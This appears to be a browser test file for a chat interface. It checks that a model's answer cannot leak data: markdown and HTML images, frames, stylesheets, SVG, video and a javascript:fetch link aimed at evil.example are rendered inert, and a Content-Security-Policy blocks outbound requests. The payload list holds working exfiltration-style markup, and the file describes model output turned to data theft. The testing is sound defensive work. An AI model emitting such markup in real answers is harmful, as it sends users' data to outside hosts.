// Words of a model that would carry a wallet away: the screen asks no other host for anything, whatever it is shown.
import assert from 'node:assert/strict'
import { ask, askingModel, expect, test } from '../support/desk.ts'

test.use(askingModel())

const AWAY = 'https://evil.example'
const LURES = [
  `![wallet](${AWAY}/image?w=10000000)`,
  `![by name][lure]`,
  `<img src="${AWAY}/html.png">`,
  `<iframe src="${AWAY}/frame"></iframe>`,
  `<link rel="stylesheet" href="${AWAY}/style.css">`,
  `<svg><image href="${AWAY}/svg.png"/></svg>`,
  `<video poster="${AWAY}/poster.png" src="${AWAY}/film"></video>`,
  `| a |\n|---|\n| ![cell](${AWAY}/cell.png) |`,
  `[the rules](${AWAY}/link?w=10000000)`,
  `[run](javascript:fetch('${AWAY}/js'))`,
  `\n\n[lure]: ${AWAY}/reference.png`,
]

test('images, frames, styles and links of an answer: nothing is fetched, and a link says where it leads', async ({
  page,
  desk,
}) => {
  const own = new URL(desk.url).host
  const foreign: string[] = []
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (/^(https?|wss?):$/.test(url.protocol) && url.host !== own) foreign.push(request.url())
  })
  const check = async () => {
    const answer = page.getByTestId('message').last()
    await expect(answer).toContainText('That is all.')
    await expect(answer.locator('img, iframe, link, video, svg image, object, embed, script')).toHaveCount(0)
    const links = answer.locator('a[href]')
    await expect(links).toHaveCount(1)
    await expect(links).toHaveAttribute('href', /^https:\/\/evil\.example\/link/)
    await expect(links).toContainText('(evil.example)')
    // What the page had begun to fetch before is seen by now.
    await page.evaluate(async () => void (await fetch('/api/health')))
    expect(foreign).toEqual([])
    // Nor is a figure read backwards.
    await expect(answer).toContainText('At 1592 and 1593.')
  }
  await page.goto('/')
  await ask(page, `[[say: ${LURES.join('\n\n')}\n\nAt \u202e1592\u202c and &#x202E;1593.\n\nThat is all.]]`)
  await check()
  await page.reload()
  await check()
})

test('were words ever more than words, the policy of the page would still let nothing out and run nothing', async ({
  browser,
  desk,
}) => {
  // A page of its own: what is refused here is refused on purpose.
  const page = await browser.newPage()
  const response = await page.goto(desk.url)
  const policy = response?.headers()['content-security-policy'] ?? ''
  const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? ''
  assert.match(scripts, /'nonce-[A-Za-z0-9+/=]{24}'/)
  assert.doesNotMatch(scripts, /unsafe/)
  const other = await page.request.get(desk.url)
  assert.notEqual(other.headers()['content-security-policy'], policy, 'a nonce is used twice')
  const went = await page.evaluate(async (away) => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    const image = new Image()
    image.src = `${away}/image`
    const form = document.createElement('form')
    form.action = `${away}/form`
    document.body.append(form)
    form.submit()
    const frame = document.createElement('iframe')
    frame.src = `${away}/frame`
    document.body.append(frame)
    const script = document.createElement('div')
    script.innerHTML = '<img src="data:," onerror="window.ran = true">'
    document.body.append(script)
    await fetch(`${away}/fetch`).catch(() => {})
    const until = Date.now() + 15_000
    while (refused.length < 5 && Date.now() < until) await new Promise((r) => setTimeout(r, 20))
    return { refused: [...new Set(refused)].sort(), ran: 'ran' in window }
  }, AWAY)
  assert.deepEqual(went, {
    refused: ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-attr'],
    ran: false,
  })
  await page.close()
})
